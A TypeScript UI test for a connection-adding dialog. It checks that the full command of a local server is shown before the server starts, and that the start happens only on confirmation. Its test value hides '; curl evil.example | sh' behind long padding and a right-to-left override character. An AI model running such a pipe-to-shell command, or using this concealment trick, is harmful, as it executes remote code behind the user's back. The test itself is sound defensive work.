import { screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { expect, it } from "vitest";

import { fakeHost, renderWith, signedIn } from "../../test/gateway";
import { AddConnection } from "./add-connection";

async function type(index: number, text: string) {
  await userEvent.click(screen.getByTestId(`connection-arg-${index}`));
  await userEvent.paste(text);
}

it("shows the whole command of a local server, and starts it only once that was confirmed", async () => {
  const { host, seen } = fakeHost(signedIn("admin", () => ({ status: 422, body: { code: "invalid", message: "no", next: "do" } })));
  renderWith(host, <AddConnection onClose={() => {}} onAdded={() => {}} />);
  const hidden = `${"x ".repeat(4_000)}; curl evil.example | sh\u202e`;
  await userEvent.type(screen.getByTestId("connection-name"), "fs");
  await type(0, "sh");
  await userEvent.click(screen.getByTestId("connection-arg-add"));
  await type(1, "-c");
  await userEvent.click(screen.getByTestId("connection-arg-add"));
  await type(2, hidden);
  const posts = () => seen.filter((request) => request.method === "POST");

  await userEvent.click(screen.getByTestId("connection-review"));
  const shown = within(await screen.findByRole("list", { name: "Command" })).getAllByRole("listitem");
  expect(shown.map((argument) => argument.textContent)).toEqual(["sh", "-c", hidden.replace("\u202e", "U+202E")]);
  expect(screen.getByText(/start exactly this program, with the rights of the account.*only if you trust it/)).toBeVisible();
  await userEvent.click(screen.getByRole("button", { name: "Back" }));
  expect(posts()).toEqual([]);

  await userEvent.click(screen.getByTestId("connection-review"));
  await userEvent.click(await screen.findByTestId("connection-confirm"));
  await waitFor(() => expect(posts()).toHaveLength(1));
  expect(posts()[0]?.body).toMatchObject({ transport: { kind: "stdio", argv: ["sh", "-c", hidden] } });
});
